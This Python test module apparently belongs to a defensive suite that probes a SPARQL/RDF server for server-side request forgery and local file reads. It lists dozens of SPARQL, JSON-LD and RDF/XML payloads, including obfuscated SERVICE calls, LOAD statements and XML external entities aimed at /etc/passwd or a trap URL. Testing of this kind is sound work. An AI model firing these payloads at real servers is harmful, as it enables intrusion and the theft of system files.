"""Attempts to have the server fetch or read something. The trap tells when one succeeds."""

from __future__ import annotations

from urllib.parse import quote

from hostile.request import TRAP, UPDATE, Request, asked, post, query

REFUSED = (400, 403)
PASSWD = "file:///etc/passwd"

SERVICES = {
    "plainly": "SELECT * { SERVICE <%TRAP%> { ?s ?p ?o } }",
    "silently": "SELECT * { SERVICE SILENT <%TRAP%> { ?s ?p ?o } }",
    "in lower case": "select * { service <%TRAP%> { ?s ?p ?o } }",
    "in mixed case": "SELECT * { sErViCe SiLeNt <%TRAP%> { ?s ?p ?o } }",
    "without spaces": "SELECT*{SERVICE<%TRAP%>{?s ?p ?o}}",
    "SERVICESILENT in one word": "SELECT * {SERVICESILENT<%TRAP%>{?s ?p ?o}}",
    "between comments": "SELECT * { #\nSERVICE#{}\n#\r<%TRAP%>#\n{ ?s ?p ?o } }",
    "after a line end of Unicode": "SELECT * { # \u2028 SERVICE <x:>\nSERVICE\n<%TRAP%> {} }",
    "with a code point escape": "SELECT * { \\u0053ERVICE <%TRAP%> {} }",
    "with another": "SELECT * { S\\u0045RVICE SILENT <%TRAP%> {} }",
    "with long escapes": "SELECT * { \\U00000053\\U00000045RVICE <%TRAP%> {} }",
    "all in escapes": "SELECT * { \\u0053\\u0045\\u0052\\u0056\\u0049\\u0043\\u0045 <%TRAP%> {} }",
    "an escaped IRI": "SELECT * { SERVICE <\\u0068\\u0074tp" + TRAP.removeprefix("http") + "> {} }",
    "a prefixed name": "PREFIX s: <%TRAP%> SELECT * { SERVICE s: {} }",
    "a relative IRI": "BASE <%TRAP%> SELECT * { SERVICE <sparql> {} }",
    "a variable": "SELECT * { BIND(<%TRAP%> AS ?s) SERVICE ?s {} }",
    "a variable from VALUES": "SELECT * { VALUES ?s { <%TRAP%> } SERVICE SILENT ?s {} }",
    "in OPTIONAL": "SELECT * { ?s ?p ?o OPTIONAL { SERVICE <%TRAP%> {} } } LIMIT 1",
    "in UNION": "SELECT * { {} UNION { SERVICE SILENT <%TRAP%> {} } }",
    "in MINUS": "SELECT * { ?s ?p ?o MINUS { SERVICE <%TRAP%> { ?s ?p ?o } } } LIMIT 1",
    "in GRAPH": "SELECT * { GRAPH ?g { SERVICE <%TRAP%> {} } }",
    "in EXISTS": "ASK { FILTER EXISTS { SERVICE <%TRAP%> {} } }",
    "in NOT EXISTS": "ASK { FILTER NOT EXISTS { SERVICE SILENT <%TRAP%> {} } }",
    "in a subselect": "SELECT * { { SELECT * { SERVICE <%TRAP%> {} } } }",
    "in HAVING": "SELECT ?x {} GROUP BY ?x HAVING (EXISTS { SERVICE <%TRAP%> {} })",
    "in ORDER BY": "SELECT ?x {} ORDER BY (EXISTS { SERVICE <%TRAP%> {} })",
    "in a projection": "SELECT (EXISTS { SERVICE <%TRAP%> {} } AS ?x) {}",
    "in CONSTRUCT": "CONSTRUCT { ?s ?p ?o } { SERVICE <%TRAP%> { ?s ?p ?o } }",
    "in DESCRIBE": "DESCRIBE ?s { SERVICE <%TRAP%> { ?s ?p ?o } }",
    "after a number": "ASK { ?s ?p 5e3SERVICE SILENT <%TRAP%> {} }",
    "after true": "ASK { ?s ?p trueSERVICE SILENT <%TRAP%> {} }",
    "after an IRI that is a comparison": "ASK { BIND(1 AS ?a) FILTER(?a<?b)SERVICE SILENT<%TRAP%>{} #>\n }",
    "after a comparison that looks like an IRI": "ASK { FILTER(1<3#>'''\n)SERVICE SILENT<%TRAP%>{} #'''\n }",
    "after a string with quotation marks": "ASK { ?s ?p '\\'' SERVICE <%TRAP%> {} }",
    "after a long string": "ASK { ?s ?p '''a'b''c''' SERVICE <%TRAP%> {} }",
    "after a language tag": "ASK { ?s ?p 'a'@en SERVICE <%TRAP%> {} }",
    "after a language tag, no space": "ASK { ?s ?p 'a'@en.SERVICE <%TRAP%> {} }",
    "within LATERAL": "SELECT * { ?s ?p ?o LATERAL { SERVICE <%TRAP%> {} } } LIMIT 1",
    "nested in itself": "SELECT * { SERVICE <%TRAP%> { SERVICE <%TRAP%> {} } }",
}

FROMS = {
    "FROM <file>": f"SELECT * FROM <{PASSWD}> {{ ?s ?p ?o }}",
    "FROM <http>": f"SELECT * FROM <{TRAP}> {{ ?s ?p ?o }}",
    "FROM NAMED <file>": f"SELECT * FROM NAMED <{PASSWD}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "FROM NAMED <http>": f"SELECT * FROM NAMED <{TRAP}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "FROM a prefixed name": f"PREFIX t: <{TRAP}> SELECT * FROM t:x {{ ?s ?p ?o }}",
    "GRAPH <http>": f"SELECT * {{ GRAPH <{TRAP}> {{ ?s ?p ?o }} }}",
    "GRAPH <file>": f"SELECT * {{ GRAPH <{PASSWD}> {{ ?s ?p ?o }} }}",
    "DESCRIBE <http>": f"DESCRIBE <{TRAP}>",
    "DESCRIBE <file>": f"DESCRIBE <{PASSWD}>",
}

LOADS = {
    "LOAD": f"LOAD <{TRAP}>",
    "LOAD SILENT": f"LOAD SILENT <{TRAP}> INTO GRAPH <x:g>",
    "LOAD a file": f"LOAD <{PASSWD}>",
    "LOAD behind a query": f"ASK {{}} ; LOAD <{TRAP}>",
    "INSERT with SERVICE": f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{TRAP}> {{ ?s ?p ?o }} }}",
}


def context(remote: str) -> str:
    return f'{{"@context": {remote}, "@id": "x:a", "x:p": "b"}}'


JSON_LD = {
    "a remote context": context(f'"{TRAP}"'),
    "a remote context in a list": context(f'[{{}}, "{TRAP}"]'),
    "an imported context": context(f'{{"@version": 1.1, "@import": "{TRAP}"}}'),
    "a scoped context": context(f'{{"p": {{"@id": "x:p", "@context": "{TRAP}"}}}}'),
    "a context of a file": context(f'"{PASSWD}"'),
    "a relative context": context('"/etc/passwd"'),
    "a context beside a base": context(f'[{{"@base": "{TRAP}"}}, "context"]'),
}

ENTITY = '<?xml version="1.0"?><!DOCTYPE r [{}]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="x:a"><x:p xmlns:x="x:">{}</x:p></rdf:Description></rdf:RDF>'
RDF_XML = {
    "an external entity of a file": ENTITY.format(f'<!ENTITY e SYSTEM "{PASSWD}">', "&e;"),
    "an external entity over HTTP": ENTITY.format(f'<!ENTITY e SYSTEM "{TRAP}">', "&e;"),
    "a parameter entity": ENTITY.format(f'<!ENTITY % e SYSTEM "{TRAP}"> %e;', ""),
    "an external DTD": f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{TRAP}"><r/>',
    "an XInclude": ENTITY.replace("<!DOCTYPE r [{}]>", "").format(
        f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{PASSWD}"/>'
    ),
    "a style sheet": f'<?xml-stylesheet href="{TRAP}"?><r xmlns="x:"/>',
}

ROWS: dict[str, Request] = {
    **{f"SERVICE {name}": query(text.replace("%TRAP%", TRAP), *REFUSED) for name, text in SERVICES.items()},
    **{name: query(text, 200, *REFUSED) for name, text in FROMS.items()},
    **{f"{name} as a query": query(text, *REFUSED) for name, text in LOADS.items()},
    **{f"{name} as a query parameter": asked(text, *REFUSED) for name, text in LOADS.items()},
    **{
        f"{name} as an update": post("/sparql", UPDATE, text, *REFUSED, 404, 405, 415)
        for name, text in LOADS.items()
    },
    **{
        f"{name} of {what}": asked("SELECT * { ?s ?p ?o } LIMIT 1", 200, *REFUSED, parameters=((name, iri),))
        for name in ("default-graph-uri", "named-graph-uri", "using-graph-uri")
        for what, iri in (("a file", PASSWD), ("HTTP", TRAP), ("a closed port", "http://127.0.0.1:1/"))
    },
    **{
        f"JSON-LD with {name}": post("/classify", "application/ld+json", text, *REFUSED)
        for name, text in JSON_LD.items()
    },
    **{
        f"RDF/XML with {name}": post("/classify", "application/rdf+xml", text, *REFUSED, *extra)
        for name, text in RDF_XML.items()
        for extra in ((200,) if name in ("a style sheet", "an XInclude") else (),)
    },
    "Turtle with a base": post("/classify", "text/turtle", f"@base <{TRAP}> . <a> <b> <c> .", 200),
    "owl:imports": post(
        "/classify", "text/turtle", f"<x:o> <http://www.w3.org/2002/07/owl#imports> <{TRAP}> .", 200, 400
    ),
    "a query from elsewhere": post("/sparql?query=" + quote(TRAP), "", "", *REFUSED),
    "message/external-body": post(
        "/sparql", f'message/external-body; access-type=URL; URL="{TRAP}"', "", *REFUSED, 415
    ),
}
